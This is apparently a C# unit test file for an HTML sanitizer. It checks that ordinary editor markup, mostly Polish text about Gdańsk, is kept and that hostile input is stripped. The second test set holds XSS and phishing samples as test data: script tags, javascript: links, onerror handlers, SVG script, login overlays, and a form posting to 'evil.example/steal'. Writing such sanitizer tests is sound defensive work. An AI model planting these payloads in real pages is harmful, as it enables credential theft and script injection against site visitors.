using Twinning.Module.Features.Validation;

namespace Twinning.Module.Tests.Validation;

/// <summary>The allow-list: what editors write survives unchanged, what could pose as the site or run is removed.</summary>
public sealed class HtmlSanitizerServiceTests
{
    private readonly HtmlSanitizerService _sanitizer = new();

    [Theory]
    [InlineData("<h2>Program forum</h2><h3>Dzień 1</h3><p>Tekst<br>dalej</p><hr>")]
    [InlineData("<p><strong>Ważne</strong>, <em>kursywa</em>, <b>b</b>, <i>i</i>, <u>u</u>, <s>s</s>, <sub>2</sub>, <sup>3</sup>, <small>m</small>, <mark>z</mark></p>")]
    [InlineData("<ul><li>Gdańsk</li><li>Sopot</li></ul><ol start=\"3\"><li>trzy</li></ol><dl><dt>Forum</dt><dd>2017</dd></dl>")]
    [InlineData("<p><a href=\"https://gdansk.pl/forum\" title=\"Forum\">Forum</a> <a href=\"/wydarzenia\">Wydarzenia</a> <a href=\"mailto:biuro@gdansk.pl\">biuro</a> <a href=\"tel:+48585236000\">tel</a></p>")]
    [InlineData("<figure><img src=\"/media/herb.png\" alt=\"Herb Gdańska\" width=\"200\" height=\"240\"><figcaption>Herb</figcaption></figure>")]
    [InlineData("<table><caption>Plan</caption><thead><tr><th scope=\"col\">Godzina</th></tr></thead><tbody><tr><td colspan=\"2\">9:00</td></tr></tbody></table>")]
    [InlineData("<blockquote cite=\"https://gdansk.pl\"><p>Cytat</p></blockquote><pre><code>kod</code></pre><p><q>q</q> <abbr title=\"Unia Europejska\">UE</abbr> <time datetime=\"2017-04-27\">27 kwietnia</time></p>")]
    [InlineData("<div lang=\"be\" dir=\"ltr\"><span>Полацк</span></div>")]
    public void WhatEditorsWriteIsKeptAsItIs(string html)
        => Assert.Equal(html, _sanitizer.Sanitize(html));

    [Theory]
    [InlineData("<form action=\"https://evil.example/steal\"><p>Zaloguj</p></form>", "form")]
    [InlineData("<input type=\"password\" name=\"p\">", "input")]
    [InlineData("<button>OK</button><select><option>a</option></select><textarea>t</textarea>", "button")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe><object data=\"x.swf\"></object><embed src=\"x.swf\">", "evil")]
    [InlineData("<script>alert(1)</script><style>body{display:none}</style>", "alert")]
    [InlineData("<div style=\"position:fixed; inset:0; z-index:9999\">Zaloguj się</div>", "position")]
    [InlineData("<p class=\"modal fixed-top\" id=\"login\">x</p>", "modal")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a><img src=\"data:image/png;base64,AAAA\" onerror=\"alert(1)\">", "alert")]
    [InlineData("<img src=\"data:image/svg+xml;base64,AAAA\">", "data:")]
    [InlineData("<svg><script>alert(1)</script></svg><math><mi>x</mi></math>", "svg")]
    public void FormsOverlaysAndActiveContentAreRemoved(string html, string gone)
        => Assert.DoesNotContain(gone, _sanitizer.Sanitize(html), StringComparison.OrdinalIgnoreCase);

    [Fact]
    public void TheRecipesSampleMarkupIsAllowed()
    {
        foreach (var tag in new[] { "p", "strong", "em" })
        {
            Assert.Contains(tag, HtmlSanitizerService.AllowedTags);
        }
    }
}
